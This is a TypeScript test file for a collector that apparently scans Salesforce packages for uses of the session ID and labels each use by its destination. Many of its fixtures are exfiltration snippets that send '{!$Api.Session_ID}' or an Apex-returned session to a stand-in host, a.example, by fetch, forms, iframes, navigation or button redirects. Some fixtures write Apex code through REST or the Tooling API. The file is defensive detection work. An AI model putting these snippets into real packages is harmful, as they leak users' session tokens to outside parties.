import { expect } from 'chai';
import { sessionIds } from '../../../src/package/collectors/sessionIds.js';
import { metadata, packageProject, sourceOf } from '../../support/packageSource.js';

const folder = 'force-app/main/default';
const apex = {
  [`${folder}/classes/C.cls`]:
    'public class C { @AuraEnabled public static String getSession() { return UserInfo.getSessionId(); } }',
};
type Files = Record<string, string>;
const page = (...lines: readonly string[]): Files => ({
  [`${folder}/pages/P.page`]: `<apex:page>\n${lines.join('\n')}\n</apex:page>`,
});
const inPage = (...lines: readonly string[]): Files => page('<script>', ...lines, '</script>');
const lwc = (...lines: readonly string[]): Files => ({
  ...apex,
  [`${folder}/lwc/go/go.js`]: [
    "import { NavigationMixin } from 'lightning/navigation';",
    "import getSession from '@salesforce/apex/C.getSession';",
    ...lines,
  ].join('\n'),
});
const formula = (text: string): Files => ({
  [`${folder}/objects/Account/fields/F__c.field-meta.xml`]: metadata(
    'CustomField',
    `<fullName>F__c</fullName><formula>${text}</formula>`
  ),
});
const button = (code: string): Files => ({
  [`${folder}/objects/Account/webLinks/Go.webLink-meta.xml`]: metadata(
    'WebLink',
    `<openType>onClickJavaScript</openType><linkType>javascript</linkType><url>${code}</url>`
  ),
});
const sid = '{!$Api.Session_ID}';

/** Kinds of use, of everything that is not Apex. */
const rows: ReadonlyArray<[title: string, files: Files, expected: readonly string[]]> = [
  // The path behind the version.
  [
    'a path that a wrapper gets',
    inPage(
      `function call(p, m) { return fetch('/services/data/v60.0/' + p, { method: m, headers: { Authorization: 'Bearer ${sid}' } }); }`,
      `call('query?q=x');`
    ),
    ['data'],
  ],
  [
    'a path that nothing gives',
    inPage(
      `export function call(p) { return fetch('/services/data/v60.0/' + p, { headers: { Authorization: 'Bearer ${sid}' } }); }`
    ),
    ['unknown'],
  ],
  [
    'a template with a constant',
    inPage(
      `const V = 'v60.0', A = 'tooling';`,
      `fetch(\`/services/data/\${V}/\${A}/query\`, { headers: { a: '${sid}' } });`
    ),
    ['tooling-query'],
  ],
  [
    'a class that is written through REST',
    inPage(`fetch('/services/data/v60.0/sobjects/ApexClass', { method: 'POST', headers: { a: '${sid}' } });`),
    ['prohibited'],
  ],
  [
    'an address of the org, of its own origin',
    inPage(`fetch(location.origin + '/services/data/v60.0/limits', { headers: { a: '${sid}' } });`),
    ['data'],
  ],
  // Sources.
  [
    'the merge field in any case and with blanks',
    inPage(`fetch('https://a.example', { headers: { a: '{! $API.session_id }' } });`),
    ['third-party'],
  ],
  [
    'the merge field outside of quotation marks',
    inPage(`var s = {!GETSESSIONID()};`, `fetch('https://a.example/?s=' + s);`),
    ['third-party'],
  ],
  [
    'the key of a container app by another name',
    {
      [`${folder}/staticresources/b.js`]: `import bridge from 'lightning-container';\nfetch('https://a.example/' + bridge.getRESTAPISessionKey());`,
    },
    ['third-party'],
  ],
  [
    'an event of a page that calls its script',
    page(`<script>function go(s) { fetch('https://a.example/' + s); }</script>`, `<button onclick="go('${sid}')"/>`),
    ['third-party'],
  ],
  [
    'a parameter that a controller gets',
    page(`<apex:param name="s" value="${sid}" assignTo="{!token}"/>`),
    ['unknown'],
  ],
  [
    'an adapter of a component',
    lwc(`export default class Go { @wire(getSession) wired({ data }) { fetch('https://a.example/' + data); } }`),
    ['third-party'],
  ],
  // Sinks.
  [
    'a service that navigates, with the address in a variable',
    lwc(
      `export default class Go extends NavigationMixin(Base) { async go() { const s = await getSession(); const url = \`https://a.example/\${s}\`; const target = { type: 'standard__webPage', attributes: { url } }; this[NavigationMixin.Navigate](target); } }`
    ),
    ['third-party'],
  ],
  [
    'a navigation inside the org',
    lwc(
      `export default class Go extends NavigationMixin(Base) { async go() { const s = await getSession(); this[NavigationMixin.Navigate]({ type: 'standard__webPage', attributes: { url: '/apex/P?s=' + s } }); } }`
    ),
    ['unknown'],
  ],
  [
    'an Aura service component',
    {
      ...apex,
      [`${folder}/aura/Go/Go.cmp`]: '<aura:component controller="C"/>',
      [`${folder}/aura/Go/GoController.js`]: `({ go: function (cmp) { var a = cmp.get('c.getSession'); a.setCallback(this, function (r) { cmp.find('nav').navigate({ type: 'standard__webPage', attributes: { url: 'https://a.example/?s=' + r.getReturnValue() } }); }); $A.enqueueAction(a); } })`,
    },
    ['third-party'],
  ],
  [
    'a form that is put together',
    inPage(
      `var f = document.createElement('form'); f.action = 'https://a.example/in';`,
      `var i = document.createElement('input'); i.value = '${sid}'; f.appendChild(i); f.submit();`
    ),
    ['third-party'],
  ],
  [
    'a form of the page',
    page(`<form action="https://a.example/in"><input type="hidden" name="s" value="${sid}"/></form>`),
    ['third-party'],
  ],
  [
    'a frame that a script adds',
    inPage(`el.innerHTML = '<iframe src="https://a.example/?s=${sid}"></iframe>';`),
    ['third-party'],
  ],
  [
    'a client of jsforce that writes through the Tooling API',
    inPage(
      `const c = new jsforce.Connection({ accessToken: '${sid}' });`,
      `c.tooling.sobject('ApexTrigger').create({ Name: 'T' });`
    ),
    ['prohibited'],
  ],
  [
    'a client of jsforce that reads metadata',
    inPage(
      `const c = new jsforce.Connection({ sessionId: '${sid}' });`,
      `c.metadata.read('CustomObject', ['A']).then(show);`
    ),
    ['metadata-read'],
  ],
  [
    'a client of jsforce that queries',
    inPage(`const c = new jsforce.Connection({ accessToken: '${sid}' });`, `c.query('SELECT Id FROM Account', show);`),
    ['data'],
  ],
  [
    'a client of jsforce that is given away',
    inPage(`const c = new jsforce.Connection({ accessToken: '${sid}' });`, `acme.use(c);`),
    ['unknown'],
  ],
  // Formulas and buttons.
  [
    'a formula with the host in a condition',
    formula('IF(A__c, &quot;https://a.example/?s=&quot;, &quot;https://b.example/?s=&quot;) &amp; $Api.Session_ID'),
    ['third-party'],
  ],
  [
    'trap: a formula with a link to another host next to an address of the org',
    formula(
      'IF(A__c, &quot;https://a.example/&quot;, LEFT($Api.Partner_Server_URL_260, 20) &amp; &quot;/x?s=&quot; &amp; $Api.Session_ID)'
    ),
    ['unknown'],
  ],
  [
    'a button that sends it',
    button(
      `{!REQUIRESCRIPT(&quot;/soap/ajax/54.0/connection.js&quot;)}\nvar s = &apos;{!$Api.Session_ID}&apos;;\nwindow.location = &apos;https://a.example/?s=&apos; + s;`
    ),
    ['third-party'],
  ],
  [
    'trap: a button that queries with the toolkit',
    button(
      `{!REQUIRESCRIPT(&quot;/soap/ajax/54.0/connection.js&quot;)}\nsforce.connection.sessionId = &quot;{!$Api.Session_ID}&quot;;\nvar r = sforce.connection.query(&quot;SELECT Id FROM Account&quot;);`
    ),
    ['data'],
  ],
  // One cause.
  [
    'one page with the field three times is one finding',
    inPage(`var a = '${sid}', b = '${sid}';`, `fetch('https://a.example/' + a + b + '${sid}');`),
    ['third-party'],
  ],
  // TypeScript.
  [
    'TypeScript with an enum, a cast and a property of the constructor',
    {
      ...apex,
      [`${folder}/lwc/go/go.ts`]: `import getSession from '@salesforce/apex/C.getSession';\nenum Host { A = 'https://a.example' }\nexport default class Go { constructor(private readonly host: string) {} async go(): Promise<void> { const s = (await getSession()) as string; await fetch(\`\${Host.A}/\${s!}\`); } }`,
    },
    ['third-party'],
  ],
];

describe('package/collectors/sessionIds, sources and sinks of scripts and markup', () => {
  for (const [title, files, expected] of rows) {
    it(title, async () => {
      const evidence = await sessionIds.collect(
        await sourceOf({
          'sfdx-project.json': packageProject,
          [`${folder}/labels/A.labels-meta.xml`]: metadata('CustomLabels', '<labels/>'),
          ...files,
        }),
        { asOf: new Date(0), params: {}, required: [] }
      );
      expect(evidence.status, JSON.stringify(evidence)).to.equal('complete');
      const found = evidence.status === 'complete' ? evidence.value : [];
      const kinds = found
        .filter(({ file }) => !file.endsWith('.cls'))
        .map(({ uses }) => [...new Set(uses.map(({ to }) => to))].join(', '));
      expect(kinds, JSON.stringify(found)).to.deep.equal(expected);
    });
  }

  it('leaves a gap where TypeScript does not parse', async () => {
    const files = { [`${folder}/lwc/go/go.ts`]: 'const a: = __sfdcSessionId;' };
    const source = await sourceOf({
      'sfdx-project.json': packageProject,
      ...apex,
      ...files,
      [`${folder}/labels/A.labels-meta.xml`]: metadata('CustomLabels', '<labels/>'),
    });
    const evidence = await sessionIds.collect(source, { asOf: new Date(0), params: {}, required: [] });
    expect(evidence.status === 'partial' && evidence.gap.subject?.file).to.equal(`${folder}/lwc/go/go.ts`);
  });
});
